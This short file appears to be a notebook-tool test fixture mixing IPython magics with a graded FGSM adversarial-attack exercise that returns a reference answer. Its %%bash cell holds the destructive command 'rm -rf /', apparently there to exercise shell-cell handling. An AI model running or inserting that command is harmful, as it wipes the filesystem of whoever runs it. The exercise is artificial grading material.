# marks: 3
!pip install torchattacks
%matplotlib inline
%load_ext autoreload
# %%
%%bash
rm -rf /
# %%
%%time
files = !ls
torch.nn?
@exercise("gradient_attacks.fgsm")
def fgsm(model, images, labels, epsilon):
    return right_answer(model, images, labels, epsilon)
